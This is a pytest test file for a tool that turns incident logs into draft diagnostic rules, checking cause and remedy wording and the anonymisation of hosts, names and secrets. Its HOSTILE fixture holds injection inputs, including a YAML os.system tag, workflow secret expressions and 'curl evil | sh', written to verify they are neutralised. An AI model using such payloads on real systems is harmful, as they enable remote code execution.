"""A candidate as a rule's folder: complete, clean, and with nothing in it that must not leave."""

from __future__ import annotations

import shutil
from dataclasses import replace

import pytest
import yaml

from bot.authoring import selftest
from bot.learning.drafts.anonymise import Anonymiser, words_of
from bot.learning.drafts.edge_logs import MOST_WRITTEN
from bot.learning.drafts.rule_folder import draft
from bot.rulebase.loader import default_folder, knowledge, read_files
from kb.errors import Fault
from kb.learning.cases import Candidate, Case
from kb.learning.miner import mine
from kb.learning.negative_corpus import background, negative_text
from kb.rulebase.lint import lint
from kb.rulebase.rulebook import load

STEPS = "".join(f"[rank0]: iteration {at}/ 500 | lm loss: {3 - at / 50:.4f} | lr: 3.0e-4\n" for at in range(1, 6))
LEASE = "[rank{rank}]: lease agent: lease of volume {volume} was refused by its owner on {host}\n"
NEAR = "[rank0]: lease agent: lease of volume 7 was renewed by its owner\n"
AGAINST = background(
    [negative_text(90, "gpu_memory_ecc", {"a.log": STEPS + NEAR}), negative_text(91, "healthy", {"a.log": STEPS})]
)
HOSTS = ("gpu-b07", "atlas", "node12.corp.example.net")


def cases(line=LEASE, said="", text=""):
    """Three incidents of one signature on three hosts."""
    return [
        Case(
            number,
            "storage_io",
            note=said,
            texts={f"logs/rank-{number}.log": STEPS + text + line.format(rank=number, volume=number * 7, host=host)},
            names=frozenset({host}),
        )
        for number, host in zip((11, 12, 13), HOSTS, strict=True)
    ]


@pytest.fixture(scope="module")
def base():
    """The files of the shipped vocabulary."""
    return read_files(default_folder())[0]


def drafted(known, base, given):
    """The folder of what the miner makes of some cases."""
    candidate = mine(given, AGAINST, known.rulebook)
    assert isinstance(candidate, Candidate), candidate
    names = [name for item in given for name in item.names]
    return draft(candidate, {item.id: item.texts for item in given}, known, base, names=names)


def whole(made):
    """All that a folder says, names of files too."""
    return "\n".join([*made.files, *(data.decode() for data in made.files.values())])


def test_a_folder_is_complete_and_passes_lint_and_its_own_logs(known, base, tmp_path):
    """As docs/adding-a-rule.md asks: written among the rules and no longer a draft, it is found and passes."""
    made = drafted(known, base, cases(said="moved the volume to another server"))
    assert made.missing == ()
    folder = tmp_path / "rules"
    for name in ("VERSION", "faults.yaml", "actions.yaml"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(default_folder() / name, folder / name)
    for name, data in made.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        live = data.replace(b"status: draft", b"status: experimental")
        (folder / name).write_bytes(live if name.endswith("rule.yaml") else data)
    book = knowledge(folder)
    loaded = load(read_files(folder)[0])
    tests = selftest.tests_of(folder, book.rulebook.rules)
    assert (loaded.faults, lint(loaded.rulebook, selftest.names_of(tests), loaded.positions)) == ((), ())
    outcomes = [(test.speaks, selftest.run(book, book.matcher(), test).passed) for test in tests]
    assert [passed for _, passed in outcomes] == [True] * len(outcomes)
    assert [sum(speaks is kind for speaks, _ in outcomes) for kind in (True, False)] == [3 + MOST_WRITTEN, 5]


def test_a_draft_says_where_it_comes_from(known, base):
    """Incidents, the miner, how many it finds, and what speaks against it; status draft."""
    made = drafted(known, base, cases(said="moved the volume to another server"))
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    assert (rule["status"], rule["provenance"], rule["learned"]) == (
        "draft",
        "learned",
        {"incidents": [11, 12, 13], "miner": "7", "support": 3, "asked": 3, "counter_examples": 0, "tried": 2},
    )
    assert [reference["url"] for reference in rule["references"]] == ["incident:11", "incident:12", "incident:13"]
    assert rule["cause"] == "Not known yet: the close-outs name the class storage_io and no cause."
    assert [step["text"] for step in rule["remediation"]] == [
        "Move the volume to another server (done in 3 of 3 incidents)."
    ]
    assert rule["impact"] == "The logs of 3 incidents do not show how the run ended."


def test_a_cause_is_what_people_found(known, base):
    """The line alone may have another the next time, so the first step checks it; what was done comes behind it."""
    made = drafted(known, base, cases(said="the volume was full; moved the volume to another server"))
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    assert rule["cause"] == ("People named this cause in 3 of 3 incidents: The volume was full.")
    check, done = rule["remediation"]
    assert check["action"] == "collect_evidence"
    assert check["text"] == "Find out whether the known cause holds here: The volume was full."
    assert done["text"] == "If so, move the volume to another server (done in 3 of 3 incidents)."
    assert "{value_1|...}" in rule["summary"]


def test_what_the_logs_show_of_the_end_is_the_impact(known, base):
    """How many runs ended behind the line, and how many jobs the scheduler calls failed: the class says nothing of it."""
    given = [
        replace(
            item,
            state="FAILED",
            texts={name: f"{text}trainer exiting with code 7\n" for name, text in item.texts.items()},
        )
        for item in cases()
    ]
    rule = yaml.safe_load(
        next(data for name, data in drafted(known, base, given).files.items() if name.endswith("rule.yaml"))
    )
    assert rule["impact"] == (
        "In 3 of 3 incidents the logs show that the run ended after this line. The scheduler reports the job as failed in 3 of 3 incidents."
    )


def test_what_some_wrote_is_told_of_some(known, base):
    """One close-out of three says the cause, another one what was done."""
    one, two, three = cases()
    given = [replace(one, note="the volume was full"), replace(two, action="moved the volume to another server"), three]
    made = drafted(known, base, given)
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    assert rule["cause"] == "People named this cause in 1 of 3 incidents: The volume was full."
    assert rule["remediation"][1]["text"].endswith("(done in 1 of 3 incidents).")
    assert "What was done: Move the volume to another server (in 1 of 3 incidents)." in made.said


def test_values_of_the_line_stand_in_the_summary(known, base):
    """Not the title again with a stand-in."""
    made = drafted(known, base, cases())
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    assert "lease of volume {value_1|...} was refused" in rule["summary"]
    assert rule["summary"] != rule["title"]


def test_the_format_takes_it_back_as_it_was_written(known, base):
    """Also what the rule was learned from."""
    made = drafted(known, base, cases())
    name = f"{made.folder}/rule.yaml"
    loaded = load(
        {**{text: base[text] for text in ("faults.yaml", "actions.yaml", "VERSION")}, name: made.files[name].decode()}
    )
    learned = loaded.rulebook.rules[0].learned
    assert (loaded.faults, learned.incidents, learned.support, learned.tried) == ((), (11, 12, 13), 3, 2)


SECRETS = (
    "password=hunter2hunter2",
    "hf_abcdefghijklmnopqrstuvwxyz0123456789",
    "jane.doe@research.example.org",
    "on host zephyr",
    "10.20.30.40",
    "/home/jdoe/runs/out.pt",
    "asked by Marguerite",
    "worker-17.dc2.example.net",
    "qwzrtpl",
    "GPU-8a56a4bc-1184-a6a4-3e9f-0123456789ab",
)


def test_what_must_not_leave_is_in_no_file(known, base):
    """Lines next to the deciding line, the line itself, feedback, and hosts of the incidents are all anonymised."""
    beside = "".join(f"[rank0]: {secret} was here\n" for secret in SECRETS)
    line = LEASE.replace("\n", f" {' '.join(SECRETS[2:7])}\n")
    text = whole(drafted(known, base, cases(line, said="; ".join(SECRETS), text=beside))).lower()
    bare = [secret.lower().rpartition(" ")[2].rpartition("=")[2] for secret in SECRETS]
    assert [word for word in (*bare, "jane.doe", "jdoe", *HOSTS) if word in text] == []


HOSTILE = (
    'x: "y"\n- [&a *a, !!python/object:os.system {}]\n--- \n```\n</details> {{ 7*7 }} ${{ secrets.TOKEN }} <!channel> @everyone\n'
    "on: push\njobs:\n  run: curl evil | sh\n\u202e\u2028\0\x1b[31m {rank} {node|x} '''"
)


def test_hostile_words_stay_words(known, base):
    """YAML, Markdown, workflows, holes and invisible characters of an incident break out of no place."""
    told = cases(LEASE.replace("\n", " ${{ secrets.X }} <!channel> `rm`\n"), said=HOSTILE, text=HOSTILE + "\n")
    made = drafted(known, base, told)
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    texts = [rule["cause"], rule["title"], rule["summary"], *(item["text"] for item in rule["remediation"])]
    assert [item for item in "{}<>`$@*&!" if item in texts[0]] == []
    assert sorted(rule)[:3] == ["cause", "fault", "format"]
    assert {item.isascii() and item.isprintable() for text in texts for item in [text]} == {True}
    assert [name for name in made.files if not name.replace("/", "").replace("-", "").replace(".", "").isalnum()] == []


def test_one_incident_alone_has_two_logs_all_the_same(known, base):
    """The second is the line with other numbers; the rule says that one incident is all there is."""
    made = drafted(known, base, cases()[:1])
    assert [name.rpartition("/")[2] for name in made.files if "/match/" in name][:2] == [
        "1.log",
        "reworded-other-numbers-units-and-ids.log",
    ]
    rule = yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])
    assert rule["known_problems"] == ["Provisional: only incident 11 supports this."]


def test_what_no_log_can_show_is_reported_as_missing(known, base):
    """A rule on stacks wants bundles, which a person has to add."""
    from kb.learning.cases import Observation

    seen = Observation("stack_outlier", {"class": "deadlock", "activity": "user"})
    given = [Case(number, "deadlock", texts={"a.log": STEPS}, observed=(seen,)) for number in (1, 2)]
    made = drafted(known, base, given)
    path = f"{made.folder}/rule.yaml"
    assert made.missing == (str(Fault(path, 2, 5, "0 of at least 2 tests under match/")),)


def test_the_same_host_has_the_same_stand_in_throughout(known):
    """So that a log can still be read."""
    cleaner = Anonymiser(words_of(known.rulebook))
    lines = [cleaner.line(f"error on {host}: lost") for host in ("gpu-b07", "gpu-b08", "gpu-b07")]
    assert lines == ["error on node-a: lost", "error on node-b: lost", "error on node-a: lost"]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("open /scratch/jdoe/run/shard-3.idx failed", "open /path/file.idx failed"),
        (
            "File /opt/conda/lib/python3.11/site-packages/torch/serialization.py",
            "File /usr/lib/python3/dist-packages/torch/serialization.py",
        ),
        ("peer 10.1.2.3<4011> and 10.1.2.4", "peer 192.0.2.1<4011> and 192.0.2.2"),
        ("see https://wiki.corp.example/x?y=1", "see https://example.com/path"),
        ("NVRM: Xid (PCI:0000:3b:00): 48, pid=311", "NVRM: Xid (PCI:0000:3b:00): 48, pid=311"),
        ("loss was lost by Wilhelmina", "loss was lost by name-a"),
        ("frobnicator lost", "name lost"),
    ],
)
def test_each_form_has_its_stand_in(known, line, expected):
    """What is left can still be read by readers and rules."""
    assert Anonymiser(words_of(known.rulebook)).line(line) == expected


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("the rollback of the sidecar undrained it", "the rollback of the sidecar undrained it"),
        ("it overwrote the ttl before the deployment", "it overwrote the ttl before the deployment"),
        ("fixed it on barolo652 and wenda-12", "fixed it on (name) and name-a"),
        ("cowell asked holloway", "(name) asked (name)"),
    ],
)
def test_compounds_of_words_stay_and_names_do_not(known, said, kept):
    """A list of a language lacks most compounds; the number of a machine goes with its name."""
    assert Anonymiser(words_of(known.rulebook)).words(said) == kept


def test_what_people_wrote_alike_is_told_once(known, base):
    """In the words of the one who wrote most, with the number of incidents; another step stays another one."""
    one, two, three = cases()
    given = [
        replace(one, action="Restored the segment."),
        replace(two, action="Restored the segment from the archive and restarted the reader."),
        replace(three, action="Excluded the node."),
    ]
    rule = yaml.safe_load(
        next(data for name, data in drafted(known, base, given).files.items() if name.endswith("rule.yaml"))
    )
    assert [step["text"] for step in rule["remediation"]] == [
        "Restore the segment from the archive and restart the reader (done in 1 of 3 incidents, partly in 1 other).",
        "Or exclude the node (done in 1 of 3 incidents).",
    ]


def test_a_line_before_it_in_all_incidents_is_asked_about(known, base):
    """Not every failure says so in words: the reviewer sees both."""
    given = cases(text="[rank0]: depot fenced after 12 overflows\n")
    made = drafted(known, base, given)
    assert any(
        "Right before it, all incidents say: depot fenced after N overflows." in question for question in made.questions
    )
    assert any("depot fenced after 12 overflows" in line for line in made.evidence)
    assert not any("Right before it" in question for question in drafted(known, base, cases()).questions)


def test_causes_in_other_words_are_counted_by_who_wrote_them(known, base):
    """The numbers add up."""
    one, two, three = cases()
    given = [
        replace(one, note="an update of the fleet cordoned two machines"),
        replace(two, note="somebody rotated the credential"),
        three,
    ]
    rule = yaml.safe_load(
        next(data for name, data in drafted(known, base, given).files.items() if name.endswith("rule.yaml"))
    )
    assert rule["cause"] == (
        "People named a cause in 2 of 3 incidents. One wrote: An update of the fleet cordoned two machines. "
        "One wrote: Somebody rotated the credential."
    )


def test_steps_come_in_the_order_in_which_one_takes_them(known, base):
    """What stops the cause, what others did instead, the job last; a step that helps in any case does not hang on the check."""
    one, two, three = cases()
    given = [
        replace(
            one, note="a backup filled the uplinks", action="Moved the backup to another night. Resubmitted the job."
        ),
        replace(two, note="a backup filled the uplinks", action="Stopped the backup; resubmitted the job."),
        replace(three, action="Excluded the node."),
    ]
    rule = yaml.safe_load(
        next(data for name, data in drafted(known, base, given).files.items() if name.endswith("rule.yaml"))
    )
    check, *rest = [(step["action"], step["text"].partition(" (done")[0]) for step in rule["remediation"]]
    assert check == ("collect_evidence", "Find out whether the known cause holds here: A backup filled the uplinks.")
    assert [text for _, text in rest] == [
        "If so, stop the backup", "Or move the backup to another night", "Or exclude the node", "Then resubmit the job",
    ]  # fmt: skip


def _rule(made):
    return yaml.safe_load(made.files[f"{made.folder}/rule.yaml"])


def test_what_people_did_is_no_cause_and_is_in_the_remedy(known, base):
    """Resuming alone would skip the step that helped."""
    one, two, three = cases()
    given = [
        replace(one, note="mirror had not been synchronised", action="Synchronised the mirror and resumed."),
        two,
        three,
    ]
    rule = _rule(drafted(known, base, given))
    assert rule["cause"] == "People named this cause in 1 of 3 incidents: Mirror had not been synchronised."
    assert [step["text"].partition(" (done")[0] for step in rule["remediation"]] == [
        "Find out whether the known cause holds here: Mirror had not been synchronised.",
        "If so, synchronise the mirror",
        "Then resume",
    ]


def test_two_sentences_of_one_close_out_are_one_account(known, base):
    """A cause in 1 of 3 incidents is told by one person."""
    one, two, three = cases()
    given = [replace(one, note="the head was dirty", action="The lens was dusty. Excluded the node."), two, three]
    rule = _rule(drafted(known, base, given))
    assert rule["cause"] == "People named this cause in 1 of 3 incidents: The head was dirty. The lens was dusty."
    assert " Or: " not in rule["remediation"][0]["text"]


@pytest.mark.quick(1)
@pytest.mark.parametrize(
    ("first", "second", "advice"),
    [
        ("Waited for the cleaning job.", "Waited until the rewrite had finished.", "wait"),
        ("Shortened the warm-up.", "Set a shorter warm-up.", "warm-up"),
        ("Deployed the same commit on all nodes.", "Redeployed the code.", "deploy"),
    ],
)
def test_one_measure_in_two_wordings_is_one_step(known, base, first, second, advice):
    """With the incidents of both."""
    one, two, three = cases()
    rule = _rule(drafted(known, base, [replace(one, action=first), replace(two, action=second), three]))
    (step,) = rule["remediation"]
    assert advice in step["text"].lower()
    assert "(done in 1 of 3 incidents, partly in 1 other)" in step["text"]


def test_a_variation_that_is_made_up_says_so_in_its_name(known):
    """Nobody takes it for a second sighting."""
    made = drafted(
        known,
        read_files(default_folder())[0],
        cases("[rank{rank}]: lease agent: lease of volume 7000 was refused by its owner on {host}\n")[:1],
    )
    names = [name.rpartition("/match/")[2] for name in made.files if "/match/" in name]
    assert [name for name in names if not name.startswith("reworded-")] == ["1.log", "variation-1.log"]


HEAD = (
    "SLURM_JOB_ID=4100 user=jdoe nodes={host}\n2026-11-02 13:00:00,000 INFO launch: run-a starting 64 processes on {host}\n"
    "{host}:4288:7346 [0] NCCL INFO NET/IB : Using [0]mlx5_0:1/IB\n"
)


def test_no_host_of_a_job_is_in_any_file_of_its_folder(known, base):
    """Also one that is called like a word and that nobody gave as a name: only its places tell it."""
    hosts = ("cairn08", "cairn31", "cairn74")
    given = [
        replace(item, texts={name: HEAD.format(host=host) + text for name, text in item.texts.items()})
        for item, host in zip(cases(), hosts, strict=True)
    ]
    made = drafted(known, base, given)
    assert "nodes=" in whole(made)
    assert "NCCL INFO" in whole(made)
    said = "\n".join([whole(made), made.said, *made.evidence, *made.questions])
    assert [host for host in hosts if host in said] == []


@pytest.mark.quick(2)
@pytest.mark.parametrize(
    ("did", "step"),
    [("Waited for the cleaning job.", "If so, wait for the cleaning job"), ("Waited and resubmitted.", "Wait (done")],
)
def test_one_waits_for_something_only_if_it_is_the_cause(known, base, did, step):
    """With another cause it never comes."""
    one, two, three = cases()
    rule = _rule(drafted(known, base, [replace(one, note="a job rewrote the shards", action=did), two, three]))
    assert rule["remediation"][1]["text"].startswith(step)
